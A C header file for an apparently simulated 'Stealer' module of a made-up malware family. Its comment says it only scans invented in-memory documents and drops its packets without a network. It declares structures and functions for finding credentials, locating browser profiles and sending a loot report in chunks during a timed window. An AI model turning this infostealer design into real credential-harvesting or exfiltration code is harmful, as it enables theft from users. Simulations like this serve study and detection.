/* APT-Beta "Stealer" family: looks for credentials in documents, builds a report and sends it in
 * chunks over the BX packet protocol.
 *
 * Demo code: it scans three made-up in-memory documents, never the file system; the packets are
 * built and dropped (no network).
 * Versions (-DTOOL_VERSION=N): 1; 2 (browser profile locations, 2 KiB chunks instead of 4 KiB). */
#ifndef STEALER_H
#define STEALER_H

#include <stddef.h>
#include <stdint.h>

#include "beta.h"

#ifndef TOOL_VERSION
#define TOOL_VERSION 1
#endif

#if TOOL_VERSION >= 2
#define CHUNK 2048
#else
#define CHUNK 4096
#endif

#define CMD_LOOT 0x301
#define CMD_LOOT_END 0x302

struct finding {
    const char *doc;
    char kind[16];
    char value[96];
    unsigned line;
};

struct loot {
    struct finding f[64];
    unsigned n;
};

/* scan.c */
unsigned scan_document(struct loot *l, const char *doc, const char *text);
unsigned browser_profiles(struct loot *l);

/* report.c */
size_t build_report(const struct loot *l, char *out, size_t cap, const struct beta_cfg *cfg);
unsigned send_chunks(const char *rep, size_t n, const struct beta_cfg *cfg, uint8_t *wire, size_t wcap,
                     size_t *wn);
int wait_for_window(const struct beta_cfg *cfg);

#endif
